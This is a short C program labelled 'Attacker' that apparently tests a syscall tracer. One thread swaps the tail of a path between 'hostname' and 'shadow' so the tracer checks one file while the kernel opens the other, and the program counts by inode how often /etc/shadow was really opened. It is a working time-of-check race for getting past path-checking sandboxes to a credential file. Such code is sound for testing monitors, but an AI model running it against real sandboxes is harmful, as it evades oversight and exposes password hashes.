/* Attacker: a second thread rewrites the path between the tracer's read at syscall
 * entry and the kernel's. The path is "/etc/.//" then one aligned 8-byte word that
 * flips between "hostname" and "shadow\0\0" (one store, so never torn). The main
 * thread opens it N times and, for each open that succeeded, tells by inode which
 * file the kernel really opened. Prints "shadow S hostname H": the ground truth. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static union {
    char s[24];
    uint64_t w[3];
} path = {.s = "/etc/.//hostname"};
static volatile int stop;

/* Keep the swapper running beside the opener: each on its own CPU (when there are two). */
static void pin(int cpu) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu % (int)sysconf(_SC_NPROCESSORS_ONLN), &set);
    sched_setaffinity(0, sizeof set, &set);
}

static void *swapper(void *arg) {
    (void)arg;
    uint64_t host, shadow = 0;
    memcpy(&host, "hostname", 8);
    memcpy(&shadow, "shadow", 6);
    volatile uint64_t *word = &path.w[1];
    pin(1);
    while (!stop) {
        *word = shadow;
        *word = host;
    }
    return NULL;
}

int main(int argc, char **argv) {
    int n = argc > 1 ? atoi(argv[1]) : 200;
    struct stat shadow, host, st;
    if (stat("/etc/shadow", &shadow) || stat("/etc/hostname", &host)) return 2;
    pin(0);
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    int s = 0, h = 0;
    for (int i = 0; i < n; i++) {
        int fd = open(path.s, O_RDONLY);
        if (fd < 0) continue;
        if (fstat(fd, &st) == 0 && st.st_ino == shadow.st_ino && st.st_dev == shadow.st_dev) s++;
        else if (st.st_ino == host.st_ino && st.st_dev == host.st_dev) h++;
        char c;
        if (read(fd, &c, 1) < 0) return 3;
        close(fd);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("shadow %d hostname %d\n", s, h);
    return 0;
}
